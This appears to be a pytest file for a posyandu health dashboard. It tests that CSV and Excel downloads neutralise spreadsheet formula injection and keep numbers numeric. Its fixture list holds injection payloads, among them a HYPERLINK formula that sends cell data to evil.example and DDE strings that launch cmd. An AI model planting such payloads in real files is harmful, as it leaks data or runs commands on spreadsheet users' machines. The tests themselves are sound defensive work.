"""Downloads cannot attack the reader's spreadsheet (issue 17 §3): text cells that a spreadsheet would
run as a formula are written as text, in CSV and in Excel, read back with the csv module and openpyxl;
negative numbers stay numbers."""

from __future__ import annotations

import csv
from datetime import date
import io

import openpyxl
import pandas as pd
import pytest

from dashboard import export

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def posyandu() -> pd.DataFrame:
    names = ATTACKS + ["Posyandu Melati", "Mawar - RW 02"]
    return pd.DataFrame({"posyandu": names, "change_pp": [-1.5 - i for i in range(len(names))],
                         "children": pd.array(range(len(names)), dtype="Int64")})


def test_csv_cells_that_would_run_are_quoted_and_numbers_stay_numbers(tmp_path, posyandu):
    path = export.write_csv(posyandu, tmp_path / "strata.csv")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    assert rows[0] == ["posyandu", "change_pp", "children"]
    names = [row[0] for row in rows[1:]]
    assert names[:len(ATTACKS)] == ["'" + attack for attack in ATTACKS]
    assert names[len(ATTACKS):] == ["Posyandu Melati", "Mawar - RW 02"]
    assert [float(row[1]) for row in rows[1:]] == list(posyandu.change_pp)       # "-1.5" unquoted: a number


def test_xlsx_cells_are_text_never_formulas(tmp_path, posyandu):
    path = export.write_xlsx(posyandu, tmp_path / "strata.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = list(sheet.iter_rows(min_row=2))
    assert all(row[0].data_type == "s" for row in cells)                          # "f" would be a formula
    assert [row[0].value for row in cells[:len(ATTACKS)]] == ["'" + attack for attack in ATTACKS]
    assert [row[1].value for row in cells] == list(posyandu.change_pp)
    assert all(row[1].data_type == "n" for row in cells)


def test_numbers_written_as_text_stay_numbers():
    frame = pd.DataFrame({"haz": ["-2.35", "+1.10", "-0,5", "-2+3"]})
    assert list(export.neutralised(frame).haz) == ["-2.35", "+1.10", "-0,5", "'-2+3"]


def test_headings_are_defused_too():
    frame = pd.DataFrame({"=1+1": ["a"]})
    assert list(export.neutralised(frame).columns) == ["'=1+1"]


def test_the_strata_download_of_posyandu_named_as_formulas_is_inert(tmp_path, db_path):
    """End to end: monthly reports of posyandu named as attacks, imported into a real database; the Strata
    page's posyandu list as its download holds them (CSV and Excel) as text, never as formulas."""
    from dashboard.build import refresh
    from dashboard.db import connect_readonly, read_cursor, run_query
    from dashboard.ingest.loader import import_files
    from dashboard.ui import components
    from tests.conftest import write_csv

    names = ATTACKS[:3]
    rows = [["Posyandu", "Kode Desa", "Bulan", "Tahun", "Buka", "Kader Aktif", "S", "K", "D", "N", "BGM", "2T", "Strata"]]
    rows += [[name, "36.04.15.2001", month, "2025", "Ya", "5", "40", "38", "30", "22", "1", "0", "Purnama"]
             for name in names for month in ("Juli", "Agustus")]
    import_files([write_csv(tmp_path / "laporan.csv", rows)], db_path, after_load=refresh)
    with connect_readonly(db_path) as con:
        posyandu = run_query(read_cursor(con), "pages/strata/posyandu", {"region": "36.04", "year": date(2025, 1, 1)})
    assert sorted(posyandu.posyandu) == sorted(names)
    labels, digits, _ = components._columns(posyandu, {"posyandu": "Posyandu"})
    download = components.download_frame(posyandu, labels, digits, ("Kabupaten Serang", "Tahun 2025"), "id")
    read = list(csv.reader(io.StringIO(export.csv_bytes(download).decode("utf-8-sig"), newline="")))
    column = read[0].index("Posyandu")
    assert sorted(row[column] for row in read[1:]) == sorted("'" + name for name in names)
    sheet = openpyxl.load_workbook(io.BytesIO(export.xlsx_bytes(download))).active
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" and cell.value.startswith("'") for cell in cells)
